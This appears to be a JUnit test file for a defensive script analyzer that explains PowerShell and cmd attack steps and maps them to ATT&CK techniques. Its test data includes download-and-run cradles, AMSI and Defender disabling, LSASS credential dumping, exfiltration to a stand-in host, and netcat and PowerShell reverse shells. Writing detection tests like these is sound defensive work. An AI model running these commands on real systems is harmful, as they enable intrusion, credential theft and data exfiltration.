package dev.vigil.copilot.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What realistic attack scripts do, step by step, and the ATT&amp;CK techniques and verdict that follow. */
class ExplanationTest {
    private final ScriptAnalyzer analyzer = new ScriptAnalyzer();

    /** One statement, the sentence that must appear in its step's summary, and the techniques it must map to. */
    static Stream<Arguments> behaviours() {
        return Stream.of(
                // download cradles
                Arguments.of("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/payload.ps1')",
                        "Downloads http://203.0.113.7/payload.ps1 and runs it in memory (Net.WebClient.DownloadString "
                                + "piped to Invoke-Expression).", List.of("T1105", "T1059.001"), Severity.MALICIOUS),
                Arguments.of("(New-Object System.Net.WebClient).DownloadFile('https://evil.example.com/a.exe','C:\\Users\\Public\\a.exe')",
                        "Downloads https://evil.example.com/a.exe and saves it as C:\\Users\\Public\\a.exe "
                                + "(Net.WebClient.DownloadFile).", List.of("T1105"), Severity.SUSPICIOUS),
                Arguments.of("iwr -Uri http://evil.example.com/stage.ps1 -UseBasicParsing | iex",
                        "Downloads http://evil.example.com/stage.ps1 and runs it in memory (a web request piped to "
                                + "Invoke-Expression).", List.of("T1105", "T1059.001"), Severity.MALICIOUS),
                Arguments.of("Invoke-WebRequest -Uri https://evil.example.com/tool.exe -OutFile C:\\Temp\\tool.exe",
                        "Downloads https://evil.example.com/tool.exe (Invoke-WebRequest).", List.of("T1105"),
                        Severity.SUSPICIOUS),
                Arguments.of("Start-BitsTransfer -Source https://evil.example.com/x.ps1 -Destination x.ps1",
                        "Downloads https://evil.example.com/x.ps1 with the Background Intelligent Transfer Service",
                        List.of("T1105", "T1197"), Severity.SUSPICIOUS),
                Arguments.of("certutil.exe -urlcache -split -f http://evil.example.com/b.exe C:\\Temp\\b.exe",
                        "Downloads http://evil.example.com/b.exe with certutil -urlcache", List.of("T1105"),
                        Severity.MALICIOUS),
                Arguments.of("bitsadmin /transfer job /download /priority high http://evil.example.com/c.exe C:\\Temp\\c.exe",
                        "Downloads http://evil.example.com/c.exe with a BITS job (bitsadmin).", List.of("T1105", "T1197"),
                        Severity.SUSPICIOUS),
                // defence evasion
                Arguments.of("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
                                + "'NonPublic,Static').SetValue($null,$true)",
                        "Disables the Antimalware Scan Interface (AMSI)", List.of("T1562.001"), Severity.MALICIOUS),
                Arguments.of("Set-MpPreference -DisableRealtimeMonitoring $true",
                        "Turns off Microsoft Defender protection (Set-MpPreference -DisableRealtimeMonitoring).",
                        List.of("T1562.001"), Severity.MALICIOUS),
                Arguments.of("Add-MpPreference -ExclusionPath 'C:\\Users\\Public\\Tools'",
                        "Excludes C:\\Users\\Public\\Tools from Microsoft Defender scanning (Add-MpPreference "
                                + "-ExclusionPath).", List.of("T1562.001"), Severity.MALICIOUS),
                Arguments.of("wevtutil cl Security", "Clears the Security event log (wevtutil cl).",
                        List.of("T1070.001"), Severity.MALICIOUS),
                Arguments.of("Clear-EventLog -LogName Application,System", "Clears Windows event logs",
                        List.of("T1070.001"), Severity.MALICIOUS),
                Arguments.of("vssadmin.exe delete shadows /all /quiet", "Deletes volume shadow copies",
                        List.of("T1490"), Severity.MALICIOUS),
                Arguments.of("bcdedit /set {default} recoveryenabled no", "Turns off Windows recovery at boot",
                        List.of("T1490"), Severity.MALICIOUS),
                Arguments.of("powershell -WindowStyle Hidden -ExecutionPolicy Bypass -NoProfile -File a.ps1",
                        "Starts PowerShell, with a hidden window, so the user sees nothing (-WindowStyle Hidden), "
                                + "bypassing the script execution policy (-ExecutionPolicy Bypass), without loading the "
                                + "user's profile (-NoProfile).", List.of("T1059.001", "T1564.003"),
                        Severity.SUSPICIOUS),
                // persistence
                Arguments.of("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ "
                                + "/d \"C:\\Users\\Public\\upd.exe\" /f",
                        "Adds an autostart entry under HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run, so "
                                + "that it runs at every logon.", List.of("T1547.001"), Severity.MALICIOUS),
                Arguments.of("New-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' "
                                + "-Name x -Value 'C:\\x.exe'",
                        "Adds an autostart entry under HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
                        List.of("T1547.001"), Severity.MALICIOUS),
                Arguments.of("schtasks /create /tn \"OneDrive Sync\" /tr \"C:\\Users\\Public\\upd.exe\" /sc onlogon /ru SYSTEM",
                        "Creates the scheduled task OneDrive Sync that runs C:\\Users\\Public\\upd.exe (schtasks "
                                + "/create).", List.of("T1053.005"), Severity.SUSPICIOUS),
                Arguments.of("Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute calc.exe)",
                        "Creates a scheduled task with the ScheduledTasks cmdlets.", List.of("T1053.005"),
                        Severity.SUSPICIOUS),
                Arguments.of("sc.exe create evilsvc binPath= \"C:\\Windows\\Temp\\svc.exe\" start= auto",
                        "Creates the Windows service evilsvc that runs C:\\Windows\\Temp\\svc.exe.",
                        List.of("T1543.003"), Severity.SUSPICIOUS),
                Arguments.of("New-Service -Name upd -BinaryPathName 'C:\\Windows\\Temp\\svc.exe'",
                        "Creates the Windows service upd that runs C:\\Windows\\Temp\\svc.exe.", List.of("T1543.003"),
                        Severity.SUSPICIOUS),
                Arguments.of("wmic /namespace:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", "
                                + "CommandLineTemplate=\"C:\\x.exe\"",
                        "Sets up a WMI event subscription", List.of("T1546.003"), Severity.MALICIOUS),
                // credential access
                Arguments.of("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
                        "Dumps a process's memory, typically LSASS to read its credentials, with rundll32 comsvcs.dll "
                                + "MiniDump.", List.of("T1003.001", "T1218.011"), Severity.MALICIOUS),
                Arguments.of("procdump.exe -accepteula -ma lsass.exe lsass_dump.dmp", "Dumps the memory of LSASS with ProcDump",
                        List.of("T1003.001"), Severity.MALICIOUS),
                Arguments.of("reg save hklm\\sam C:\\Temp\\sam.save", "Saves the sam registry hive to a file",
                        List.of("T1003.002"), Severity.MALICIOUS),
                Arguments.of("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                        "Dumps credentials from memory with Mimikatz.", List.of("T1003.001"), Severity.MALICIOUS),
                // discovery
                Arguments.of("whoami /all", "Shows the current user", List.of("T1033"), Severity.INFO),
                Arguments.of("net user /domain", "Lists user accounts", List.of("T1087"), Severity.INFO),
                Arguments.of("net localgroup administrators", "Lists groups and their members", List.of("T1069"),
                        Severity.INFO),
                Arguments.of("nltest /dclist:corp.example", "Lists domain controllers or domain trusts (nltest).",
                        List.of("T1482"), Severity.SUSPICIOUS),
                Arguments.of("systeminfo", "Collects information about the system", List.of("T1082"), Severity.INFO),
                Arguments.of("ipconfig /all", "Shows the network configuration", List.of("T1016"), Severity.INFO),
                Arguments.of("Get-ADUser -Filter * -Properties *", "Queries Active Directory for accounts, groups or "
                        + "computers (Get-ADUser).", List.of("T1087.002"), Severity.SUSPICIOUS),
                // lateral movement
                Arguments.of("Invoke-Command -ComputerName dc01.corp.example -ScriptBlock { whoami }",
                        "Runs commands on dc01.corp.example over WinRM (Invoke-Command -ComputerName).",
                        List.of("T1021.006"), Severity.SUSPICIOUS),
                Arguments.of("Enter-PSSession -ComputerName web01", "Opens a remote PowerShell session to web01",
                        List.of("T1021.006"), Severity.SUSPICIOUS),
                Arguments.of("psexec.exe \\\\10.0.0.5 -s -d cmd.exe /c C:\\Temp\\a.bat",
                        "Runs a program on 10.0.0.5 through its admin share and a temporary service (PsExec).",
                        List.of("T1021.002", "T1569.002"), Severity.SUSPICIOUS),
                Arguments.of("wmic /node:10.0.0.6 process call create \"cmd.exe /c C:\\Temp\\a.bat\"",
                        "Starts a process on 10.0.0.6 through WMI (process call create).", List.of("T1047"),
                        Severity.SUSPICIOUS),
                // signed binaries as proxies
                Arguments.of("mshta http://evil.example.com/a.hta", "Runs a remote or inline HTML application with mshta",
                        List.of("T1218.005"), Severity.MALICIOUS),
                Arguments.of("regsvr32 /s /n /u /i:http://evil.example.com/file.sct scrobj.dll",
                        "Runs a remote scriptlet http://evil.example.com/file.sct through regsvr32 and scrobj.dll "
                                + "(Squiblydoo).", List.of("T1218.010"), Severity.MALICIOUS),
                Arguments.of("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()",
                        "Runs JavaScript through rundll32 and mshtml", List.of("T1218.011", "T1059.007"),
                        Severity.MALICIOUS),
                Arguments.of("cmstp.exe /s /ns C:\\Temp\\evil.inf", "Installs a connection profile with cmstp",
                        List.of("T1218.003"), Severity.MALICIOUS),
                // exfiltration and command and control
                Arguments.of("Invoke-RestMethod -Uri https://exfil.example.com/upload -Method Post -InFile C:\\Temp\\docs.zip",
                        "Uploads data to https://exfil.example.com/upload (an HTTP POST carrying file content).",
                        List.of("T1041"), Severity.MALICIOUS),
                Arguments.of("Compress-Archive -Path C:\\Users\\bob\\Documents -DestinationPath C:\\Temp\\docs.zip",
                        "Packs files into an archive (C:\\Users\\bob\\Documents), a common step before sending them out.",
                        List.of("T1560.001"), Severity.SUSPICIOUS),
                Arguments.of("nc64.exe 10.0.2.11 3001 -e cmd.exe", "Connects a shell to 10.0.2.11 with netcat (a "
                        + "reverse shell).", List.of("T1095", "T1059"), Severity.MALICIOUS));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("behaviours")
    void eachBehaviourIsExplainedAndMapped(String statement, String sentence, List<String> techniques,
            Severity severity) {
        ScriptAnalysis analysis = analyzer.analyze(statement);

        assertThat(analysis.steps()).hasSize(1);
        Step step = analysis.steps().getFirst();
        assertThat(step.summary()).contains(sentence);
        assertThat(step.techniques()).containsAll(techniques);
        assertThat(step.severity()).isEqualTo(severity);
        assertThat(analysis.techniqueIds()).containsAll(techniques);
        for (TechniqueFinding finding : analysis.techniques()) {
            assertThat(finding.evidence()).allSatisfy(evidence -> assertThat(evidence.source()).isNotBlank());
        }
    }

    @Test
    void aReverseShellSpreadOverStatementsIsRecognisedWhereItStarts() {
        String script = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);"
                + "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
                + "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
                + "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
                + "$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);"
                + "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()";

        ScriptAnalysis analysis = analyzer.analyze(script);

        Step first = analysis.steps().getFirst();
        assertThat(first.summary()).isEqualTo("Opens a reverse shell, connecting to 10.0.0.1:4444 and running the "
                + "commands it receives over the socket (Net.Sockets.TCPClient + GetStream).");
        assertThat(first.behaviours()).containsExactly("tcp-client", "reverse-shell");
        assertThat(analysis.techniqueIds()).contains("T1095", "T1059.001");
        assertThat(analysis.verdict().risk()).isEqualTo(Verdict.Risk.MALICIOUS);
        assertThat(analysis.indicatorValues(Indicator.Type.IPV4)).containsExactly("10.0.0.1");
    }

    @Test
    void anObfuscatedDownloadCradleIsExplainedStepByStep() {
        String inner = "$u = 'http://evil.example.com/'+'stage2.ps1'; $wc = New-Object Net.WebClient; "
                + "I`E`X $wc.DownloadString($u)";
        String commandLine = "cmd /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -ep bypass -enc "
                + Obfuscate.encodedCommand(inner);

        ScriptAnalysis analysis = analyzer.analyze(commandLine);

        assertThat(analysis.language()).isEqualTo(ScriptLanguage.CMD);
        assertThat(analysis.steps()).extracting(Step::summary).containsExactly(
                "Starts the Windows command shell (cmd /c). Starts PowerShell, without loading the user's profile "
                        + "(-NoProfile), with a hidden window, so the user sees nothing (-WindowStyle Hidden), "
                        + "bypassing the script execution policy (-ExecutionPolicy Bypass).",
                "Assigns a value to $u; nothing known to attacks was recognised in it.",
                "Assigns a value to $wc; nothing known to attacks was recognised in it.",
                "Downloads http://evil.example.com/stage2.ps1 and runs it in memory (Net.WebClient.DownloadString "
                        + "piped to Invoke-Expression).");
        assertThat(analysis.techniqueIds()).containsExactly("T1059.003", "T1059.001", "T1564.003", "T1105",
                "T1027", "T1027.010", "T1140");
        TechniqueFinding hidden = analysis.techniques().get(2);
        assertThat(hidden.name()).isEqualTo("Hide Artifacts: Hidden Window");
        assertThat(hidden.evidence()).singleElement().satisfies(evidence -> {
            assertThat(evidence.reason()).contains("-WindowStyle Hidden");
            assertThat(evidence.source()).startsWith("cmd /c powershell -nop -w hidden");
        });
        assertThat(analysis.verdict().risk()).isEqualTo(Verdict.Risk.MALICIOUS);
        assertThat(analysis.verdict().reasons()).containsExactly(
                "Step 4: Downloads http://evil.example.com/stage2.ps1 and runs it in memory (Net.WebClient.DownloadString "
                        + "piped to Invoke-Expression).",
                "It hides its code under 4 kinds of obfuscation: caret-escapes, encoded-command, backtick-escapes, "
                        + "concatenation.");
    }

    @Test
    void cmdCommandsChainedWithAmpersandsAreSeparateSteps() {
        ScriptAnalysis analysis = analyzer.analyze("whoami /all & net user /domain && nltest /domain_trusts || systeminfo & ipconfig /all");

        assertThat(analysis.steps()).extracting(Step::techniques).containsExactly(List.of("T1033"), List.of("T1087"),
                List.of("T1482"), List.of("T1082"), List.of("T1016"));
        assertThat(analysis.verdict().risk()).isEqualTo(Verdict.Risk.SUSPICIOUS);
        assertThat(analysis.verdict().reasons()).containsExactly("Step 3: Lists domain controllers or domain trusts (nltest).");
    }

    @Test
    void aPipelineStaysOneStep() {
        ScriptAnalysis analysis = analyzer.analyze("Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process -Force");

        assertThat(analysis.steps()).singleElement().extracting(Step::summary)
                .isEqualTo("Lists running processes (tasklist / Get-Process).");
    }

    @Test
    void aBenignScriptLooksBenign() {
        ScriptAnalysis analysis = analyzer.analyze("$files = Get-ChildItem -Path C:\\Reports -Filter *.csv\n"
                + "foreach ($file in $files) { Write-Output $file.Name }");

        assertThat(analysis.language()).isEqualTo(ScriptLanguage.POWERSHELL);
        assertThat(analysis.verdict()).isEqualTo(new Verdict(Verdict.Risk.BENIGN_LOOKING,
                List.of("No obfuscation and no behaviour typical of attacks was recognised.")));
        assertThat(analysis.steps()).allSatisfy(step -> assertThat(step.recognised()).isFalse());
        assertThat(analysis.techniques()).singleElement().satisfies(finding -> {
            assertThat(finding.id()).isEqualTo("T1059.001");
            assertThat(finding.evidence()).singleElement().extracting(TechniqueFinding.Evidence::reason)
                    .isEqualTo("The script is written in PowerShell");
        });
    }

    @Test
    void anEmptyScriptHasNothingToExplain() {
        ScriptAnalysis analysis = analyzer.analyze("  \n ");

        assertThat(analysis.steps()).isEmpty();
        assertThat(analysis.language()).isEqualTo(ScriptLanguage.UNKNOWN);
        assertThat(analysis.verdict().reasons()).containsExactly("The script is empty.");
    }

    @Test
    void obfuscationAloneIsSuspicious() {
        ScriptAnalysis analysis = analyzer.analyze("powershell -enc " + Obfuscate.encodedCommand("Get-Date"));

        assertThat(analysis.verdict().risk()).isEqualTo(Verdict.Risk.SUSPICIOUS);
        assertThat(analysis.verdict().reasons()).containsExactly("It hides its code under 1 kind of obfuscation: "
                + "encoded-command.");
    }

    @Test
    void theLanguageComesFromTheFirstCommandOrTheSyntax() {
        assertThat(ScriptAnalyzer.detect("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop"))
                .isEqualTo(ScriptLanguage.POWERSHELL);
        assertThat(ScriptAnalyzer.detect("C:\\Windows\\system32\\cmd.exe /c whoami")).isEqualTo(ScriptLanguage.CMD);
        assertThat(ScriptAnalyzer.detect("$a = Get-Item x; $a.Length")).isEqualTo(ScriptLanguage.POWERSHELL);
        assertThat(ScriptAnalyzer.detect("@echo off\r\nset x=1\r\necho %x%")).isEqualTo(ScriptLanguage.CMD);
        assertThat(ScriptAnalyzer.detect("hello world")).isEqualTo(ScriptLanguage.UNKNOWN);
    }
}
